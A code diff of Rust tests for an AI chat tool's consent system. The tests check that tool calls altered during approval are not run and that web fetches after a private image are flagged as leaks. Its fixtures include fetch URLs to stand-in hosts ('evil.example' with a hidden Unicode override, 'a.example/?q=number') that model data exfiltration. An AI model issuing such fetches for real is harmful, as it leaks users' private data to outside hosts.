@@ -1,7 +1,12 @@
 //! What a person decides: consent, and the end of a turn.
 
+use std::sync::Arc;
+
+use futures::FutureExt;
+use futures::future::{self, BoxFuture};
 use tokio_util::sync::CancellationToken;
-use toolwrit_chat::conversation::{Decision, Ended, Reason, TurnOptions};
+use toolwrit_chat::conversation::{Consent, Decision, Ended, Question, Reason, TurnOptions};
+use toolwrit_chat::notebook::MemoryNotebook;
 use toolwrit_chat::provider::{Message, Script};
 
 use crate::desk::{Desk, NOTE, Person, call};
@@ -78,6 +83,46 @@ async fn a_person_is_asked_about_what_changes_destroys_or_leaks() {
     assert_eq!(reasons, [("vault.delete", Reason::Destroys), ("web.fetch", Reason::MayLeak)]);
     assert_eq!(asked[1].arguments, "{\"path\":\"https://evil.example/?q=\\u202ex\"}");
     assert_eq!(desk.tools.made().len(), 5);
+}
+
+/// A person who approves a call after its block has changed.
+struct Late {
+    notebook: Arc<MemoryNotebook>,
+    change: fn(&str) -> String,
+}
+
+impl Consent for Late {
+    fn ask(&self, _: Question) -> BoxFuture<'_, Decision> {
+        self.notebook.edit(NOTE, self.change);
+        future::ready(Decision::Approve).boxed()
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_call_that_changed_while_a_person_was_asked_is_not_made() {
+    let changes: [fn(&str) -> String; 2] = [
+        |text| text.replace("Inbox.md", "Private.md"),
+        |text| text.split("> [!tool|").next().unwrap_or_default().to_owned(),
+    ];
+    for change in changes {
+        let mut desk = Desk::with(ASK);
+        desk.consent = Arc::new(Late { notebook: Arc::clone(&desk.notebook), change });
+        let write = call(Script::new().text("I'll add it."), "vault_append", "Inbox.md");
+        desk.turn([write, Script::new().text("Well.")]).await;
+        assert!(desk.tools.made().is_empty(), "{}", desk.text());
+        assert!(!desk.text().contains("· ok"), "{}", desk.text());
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn an_image_of_the_vault_is_text_of_the_vault() {
+    let mut desk = Desk::with("What is this? ![[Passport.png]]\n");
+    let person = Person::who(Decision::Decline);
+    desk.consent = person.clone();
+    let fetch = call(Script::new(), "web_fetch", "https://a.example/?q=number");
+    desk.turn([fetch, Script::new().text("Done.")]).await;
+    assert!(desk.tools.made().is_empty());
+    assert_eq!(person.asked.lock().unwrap()[0].reason, Reason::MayLeak);
 }
 
 #[tokio::test(start_paused = true)]
